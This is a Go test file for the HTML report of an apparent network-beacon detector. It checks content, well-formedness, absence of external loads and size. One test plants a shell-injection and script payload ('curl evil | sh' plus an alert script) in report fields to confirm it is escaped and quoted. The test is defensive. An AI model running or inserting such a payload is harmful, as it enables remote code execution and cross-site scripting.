package report

import (
	"bytes"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
)

// many is a report of so many beacons of so many check-ins each.
func many(candidates, checkins int) Data {
	r := rand.New(rand.NewPCG(1, 2))
	d := Data{Source: "host web-1", Version: "0.1.0", Generated: time.Unix(1_700_000_000, 0), Considered: 2 * candidates,
		Status: Row{"level": "L3", "max_gap_ms": "120"}, Codes: map[string]string{"regular_timing": "check-ins come at even intervals"}}
	for i := range candidates {
		c := Candidate{Row: Row{"scope": "destination", "severity": severities[i%4], "path": fmt.Sprintf("/usr/lib/vendor/agent-%d", i), "pid": fmt.Sprint(1000 + i),
			"cmdline": "/usr/lib/vendor/agent --config /etc/vendor/agent.yaml", "parent_path": "/usr/lib/systemd/systemd", "parent_cmdline": "/sbin/init",
			"remote_address": "198.51.100.7", "remote_port": "443", "destination_class": "public", "interval_ms": "60000", "jitter": "0.2",
			"size_bytes": "151", "size_spread": "0.05", "timing_share": "0.94", "timing_chance": "0.31", "size_share": "0.97", "beats": fmt.Sprint(checkins),
			"score": "0.998", "evidence": "51.221", "confidence": "0.98", "first_seen": "1700000000", "last_seen": "1700060000", "bytes_sent": "151000",
			"username": "vendor", "systemd_unit": "vendor-agent.service", "network_facing": "-1", "expected": "0", "quality": "exact", "resolution_ms": "1",
			"sha256":    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
			"signature": "/usr/lib/vendor/agent tcp://198.51.100.7:443", "suspicions": "no_package=2", "reason_codes": "regular_timing,uniform_sizes",
			"reason": "94 % of 212 gaps within ±20 % of 60 s, 31 % by chance; 97 % of payloads 151 ± 3 bytes"}}
		at := int64(1_700_000_000_000)
		for range checkins {
			at += 48_000 + r.Int64N(24_000)
			c.Bursts = append(c.Bursts, Burst{At: at, Bytes: 148 + r.Uint64N(7)})
		}
		d.Candidates = append(d.Candidates, c)
	}
	return d
}

func written(t testing.TB, d Data) string {
	var b bytes.Buffer
	require.NoError(t, Write(&b, d))
	return b.String()
}

func TestReportTellsWhatTheRowsSay(t *testing.T) {
	page := written(t, many(4, 200))
	for _, text := range []string{"host web-1", "<b>1</b> high", "/usr/lib/vendor/agent-0", "94 % of 212 gaps", "198.51.100.7:443", "60 s ± 20 %", "151 B",
		"check-ins come at even intervals", "no_package</code> <span class=\"soft\">(weight 2)", "attack.mitre.org/techniques/T1030/", "beaconwatch.ext explain 1000",
		"31 % by chance", "200 check-ins in", "sizes of encrypted traffic are sizes of ciphertext", "/usr/lib/systemd/systemd"} {
		require.True(t, strings.Contains(page, text), text)
	}
	require.Equal(t, 12, strings.Count(page, "<svg "), "timeline, intervals and sizes of four")
	require.True(t, strings.Contains(page, "var(--band)"), "the band is drawn")
}

func TestReportLoadsNothing(t *testing.T) {
	page := written(t, many(2, 50))
	require.NotRegexp(t, regexp.MustCompile(`(?i)<script|<link|<img|<iframe|@import|url\(|src=`), page)
	for _, link := range regexp.MustCompile(`https?://[^"' ]+`).FindAllString(page, -1) {
		require.True(t, strings.HasPrefix(link, "https://attack.mitre.org/"), link)
	}
}

func TestReportIsWellFormed(t *testing.T) {
	page := strings.Replace(written(t, many(3, 50)), "<!DOCTYPE html>", "", 1)
	in := xml.NewDecoder(strings.NewReader(page))
	in.Entity = xml.HTMLEntity
	for {
		_, err := in.Token()
		if errors.Is(err, io.EOF) {
			return
		}
		require.NoError(t, err)
	}
}

func TestWhatAnAttackerWroteStaysText(t *testing.T) {
	d := many(1, 20)
	evil := `/tmp/'; curl evil | sh #"><script>alert(1)</script>`
	for _, column := range []string{"path", "cmdline", "parent_path", "signature", "remote_hostname", "reason", "username", "systemd_unit", "script"} {
		d.Candidates[0].Row[column] = evil
	}
	d.Source = evil
	page := written(t, d)
	require.NotContains(t, page, "<script")
	require.Equal(t, `'/tmp/'\''; curl evil | sh #"><script>alert(1)</script>'`, quoted(evil), "one word for a shell")
	require.Equal(t, `'it''s'`, sqlQuoted("it's"))
}

func TestReportOfLittle(t *testing.T) {
	page := written(t, Data{Source: "conn.log", Considered: 7})
	require.Contains(t, page, "Nothing here sends with a rhythm")
	require.Contains(t, page, "hosts, not processes")
	odd := Data{Candidates: []Candidate{{Row: Row{}}, {Row: Row{"interval_ms": "-5", "jitter": "NaN", "size_bytes": "x"}, Bursts: []Burst{{5, 0}, {5, 0}, {3, 1 << 63}}}}}
	require.Contains(t, written(t, odd), "ungraded")
}

func TestReportOfManyIsSmall(t *testing.T) {
	page := written(t, many(500, 1000))
	require.Less(t, len(page), 5_000_000)
	t.Logf("500 candidates of 1000 check-ins: %.2f MB", float64(len(page))/1e6)
}

func BenchmarkWrite(b *testing.B) {
	d := many(500, 1000)
	b.ReportAllocs()
	for b.Loop() {
		require.NoError(b, Write(io.Discard, d))
	}
}
